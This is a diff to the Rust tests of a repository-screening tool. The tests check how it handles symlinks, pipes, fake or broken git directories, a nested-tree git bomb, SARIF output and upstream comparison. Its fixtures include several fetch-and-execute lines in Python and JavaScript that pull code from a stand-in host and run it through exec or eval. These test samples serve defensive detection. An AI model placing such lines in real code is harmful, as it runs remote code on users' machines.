@@ -16,6 +16,13 @@ fn put(desk: &Desk, files: &[(&str, &str)]) {
     }
 }
 
+/// Whether an answer is as its schema says.
+fn fits(found: &Value) {
+    let schema =
+        serde_json::from_str(include_str!("../../../../docs/schemas/screen.json")).unwrap();
+    testkit::schema::fits(&schema, found, "screen");
+}
+
 const BAD: &str = "import requests\nexec(requests.get('https://a.invalid/x').text)\n";
 const GOOD: &str = "print('hello')\n";
 
@@ -181,15 +188,19 @@ fn links_and_odd_files_of_a_folder_are_listed_and_not_followed() {
     let desk = Desk::new();
     put(&desk, &[("tree/main.py", GOOD), ("secret.py", BAD)]);
     std::os::unix::fs::symlink("../secret.py", desk.dir.join("tree/link.py")).unwrap();
-    std::os::unix::fs::symlink("main.py", desk.dir.join("tree/inside.py")).unwrap();
+    // What a link inside leads to is read under the name that the link gives it.
+    std::os::unix::fs::symlink("notes.txt", desk.dir.join("tree/inside.py")).unwrap();
+    put(&desk, &[("tree/notes.txt", BAD), ("tree/sub/x", "")]);
+    std::os::unix::fs::symlink("sub", desk.dir.join("tree/.vscode")).unwrap();
     let made = std::process::Command::new("mkfifo").arg(desk.dir.join("tree/pipe.py")).status();
     assert!(made.unwrap().success());
     let (code, json) = desk.run("screen tree");
     let listed = missed(&json);
-    assert_eq!(code, 3);
+    assert_eq!((code, &json["findings"][0]["file"]), (10, &"inside.py".into()));
     assert!(listed.contains(&("link.py".into(), "a link that leads out".into())), "{listed:?}");
     assert!(listed.contains(&("pipe.py".into(), "a device or pipe".into())), "{listed:?}");
-    assert_eq!(listed.len(), 2);
+    assert!(listed.contains(&(".vscode".into(), "a link to a folder".into())), "{listed:?}");
+    assert_eq!(listed.len(), 3);
 }
 
 #[test]
@@ -231,7 +242,7 @@ fn code_that_is_hostile_to_parsers_ends_in_an_entry() {
 #[test]
 fn sarif_names_rules_places_and_what_was_not_read() {
     let desk = Desk::new();
-    put(&desk, &[("bad/main.py", BAD), ("bad/x.rb", "1")]);
+    put(&desk, &[("bad/main.py", BAD), ("bad/x.rb", "1"), ("bad/a b/c:ü%.py", BAD)]);
     let output = std::process::Command::new(crate::command::EXE)
         .args(["screen", "bad", "--format", "sarif"])
         .current_dir(&desk.dir)
@@ -240,7 +251,11 @@ fn sarif_names_rules_places_and_what_was_not_read() {
     let sarif: Value = serde_json::from_slice(&output.stdout).unwrap();
     let run = &sarif["runs"][0];
     assert_eq!((&sarif["version"], output.status.code()), (&"2.1.0".into(), Some(10)));
-    let result = &run["results"][0];
+    // A path is a reference (RFC 3986), whatever is in it.
+    let of = |r: &Value| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].clone();
+    let results = run["results"].as_array().unwrap();
+    assert!(results.iter().any(|r| of(r) == "a%20b/c%3A%C3%BC%25.py"), "{results:?}");
+    let result = results.iter().find(|r| of(r) == "main.py").unwrap();
     assert_eq!(
         (&result["ruleId"], &result["level"]),
         (&"network-to-interpreter".into(), &"error".into())
@@ -373,6 +388,7 @@ fn a_repository_that_is_broken_or_not_whole_is_listed() {
     std::fs::remove_file(&pack).unwrap();
     std::fs::write(&pack, &whole[..whole.len() / 2]).unwrap();
     assert_eq!(desk.run("screen repo").0, 3);
+    fits(&desk.run("screen repo").1);
     // A submodule that nobody fetched, and a link that leads out.
     let other = desk.dir.join("other");
     put(&desk, &[("other/main.py", GOOD)]);
@@ -409,7 +425,8 @@ fn what_was_looked_at_is_suppressed_as_long_as_it_is_the_same() {
     let found = desk.ok("screen t --suppress both.yaml");
     assert_eq!(found["findings"], serde_json::json!([]));
     assert_eq!(found["suppressed"][0]["file"], "run.py");
-    assert!(found.get("hashes").is_none());
+    fits(&found);
+    fits(&desk.run("screen t").1);
     // A file of its way that nobody looked at; another byte; other rules.
     assert_eq!(desk.run("screen t --suppress one.yaml").0, 10);
     put(&desk, &[("t/get.py", &fetch.replace("/x", "/y"))]);
@@ -449,11 +466,25 @@ fn beside_its_upstream_only_what_differs_is_told() {
         found["upstream"],
         serde_json::json!({"same": 3, "changed": [], "added": [], "missing": []})
     );
+    fits(&found);
     // What was put in is told, and so is a way over it.
     put(&desk, &[("copy/setup.py", odd)]);
     let (code, found) = desk.run("screen copy --upstream lib.tar.gz");
     assert_eq!((code, &found["upstream"]["changed"]), (11, &serde_json::json!(["setup.py"])));
     assert!(found["findings"].as_array().unwrap().iter().all(|f| f["file"] == "setup.py"));
+    // The file that says where its bytes come from differs, and not one on the way.
+    let (way, near, far) = (
+        "import json, requests\nexec(requests.get(json.load(open('c.json'))['url']).text)\n",
+        "{\"url\": \"http://localhost/x\"}",
+        "{\"url\": \"https://a.invalid/x\"}",
+    );
+    put(
+        &desk,
+        &[("up/run.py", way), ("up/c.json", near), ("own/run.py", way), ("own/c.json", far)],
+    );
+    assert_eq!(desk.run("screen up").0, 11);
+    assert_eq!(desk.run("screen own --upstream up").0, 10);
+    assert_eq!(desk.run("screen up --upstream up").0, 0);
     // The same bytes at another place are another thing.
     put(&desk, &[("copy/setup.py", GOOD), ("copy/conftest.py", BAD)]);
     assert_eq!(desk.run("screen copy --upstream lib.tar.gz").0, 10);
@@ -497,4 +528,98 @@ fn the_recipe_for_a_server_refuses_what_would_be_blocked() {
     assert_eq!(git(&server, "rev-parse main"), git(&dir, "rev-parse main~1"));
     // Taking a branch away is nobody's flow.
     git(&dir, "push -q ../server :main");
+}
+
+#[test]
+fn what_only_looks_like_a_repository_hides_nothing() {
+    let desk = Desk::new();
+    // Files among the objects that are none.
+    put(
+        &desk,
+        &[
+            ("fake/.git/HEAD", "ref: refs/heads/main\n"),
+            (
+                "fake/.git/objects/x.js",
+                "fetch('https://a.invalid/x').then(r => r.text()).then(eval)",
+            ),
+            ("fake/.git/objects/ab/cdefabcdefabcdefabcdefabcdefabcdefabcd", BAD),
+            ("bare/HEAD", "ref: refs/heads/main\n"),
+            ("bare/refs/x", ""),
+            ("bare/objects/main.py", BAD),
+        ],
+    );
+    assert_eq!(missed(&desk.run("screen fake").1).len(), 2);
+    assert_eq!(desk.run("screen bare").0, 10);
+    // A branch that leads to a file which is no branch by its name.
+    let dir = two_branches(&desk);
+    let id = git(&dir, "rev-parse feature");
+    put(&desk, &[("repo/.git/x/HEAD", &id), ("repo/.git/refs/heads/dev", "ref: x/HEAD\n")]);
+    git(&dir, "branch -q -D feature");
+    assert_eq!(desk.run("screen repo").0, 10);
+    put(&desk, &[("repo/.git/x/HEAD", "x"), ("repo/.git/refs/heads/dev", "ref: y\n")]);
+    let why = missed(&desk.run("screen repo").1);
+    assert!(
+        why.contains(&(".git!/refs/heads/dev".into(), "a ref that leads nowhere".into())),
+        "{why:?}"
+    );
+    // Trees of trees: ten times ten times ten and so on.
+    let dir = desk.dir.join("bomb");
+    put(&desk, &[("bomb/main.py", BAD)]);
+    git(&dir, "init -q -b main .");
+    let write = |args: &[&str], text: &str| -> String {
+        use std::process::{Command, Stdio};
+        let mut child = Command::new("git")
+            .args(args)
+            .current_dir(&dir)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
+        let out = child.wait_with_output().unwrap();
+        String::from_utf8(out.stdout).unwrap().trim().to_owned()
+    };
+    let mut id = write(&["hash-object", "-w", "--stdin"], "x");
+    let mut kind = ("100644", "blob");
+    for _ in 0..10 {
+        let text: String = (0..10).map(|n| format!("{} {} {id}\t{n}\n", kind.0, kind.1)).collect();
+        id = write(&["mktree"], &text);
+        kind = ("040000", "tree");
+    }
+    put(&desk, &[("bomb/.git/refs/tags/bomb", &id)]);
+    let (code, found) = desk.run("screen bomb");
+    assert_eq!((code, &found["findings"][0]["file"]), (10, &"main.py".into()));
+    assert!(missed(&found).contains(&(".git!/refs/tags/bomb".into(), "over a limit".into())));
+}
+
+#[test]
+fn two_files_of_one_name_are_both_read() {
+    let desk = Desk::new();
+    let packed = |text: &str| {
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        encoder.write_all(text.as_bytes()).unwrap();
+        encoder.finish().unwrap()
+    };
+    put(&desk, &[("t/main.py", BAD)]);
+    desk.write("t/main.py.gz", packed(GOOD));
+    let (code, found) = desk.run("screen t");
+    assert_eq!(code, 10);
+    assert_eq!(missed(&found), [("main.py".into(), "another file of this name is there".into())]);
+}
+
+#[test]
+fn a_branch_goes_on_in_files_that_it_did_not_change() {
+    let desk = Desk::new();
+    let lib = "module.exports = async (u) => eval(await (await fetch(u)).text());\n";
+    let dir = desk.dir.join("r");
+    put(&desk, &[("r/lib.js", lib), ("r/i.js", "console.log(1)\n")]);
+    git(&dir, "init -q -b main .");
+    git(&dir, "add .");
+    git(&dir, "commit -q -m one");
+    git(&dir, "checkout -q -b dev");
+    put(&desk, &[("r/i.js", "require('./lib')('https://a.invalid/x')\n")]);
+    git(&dir, "commit -q -a -m two");
+    git(&dir, "checkout -q main");
+    let (code, found) = desk.run("screen r");
+    assert_eq!((code, &found["findings"][0]["blocks_by"]), (10, &"B1".into()), "{found}");
 }
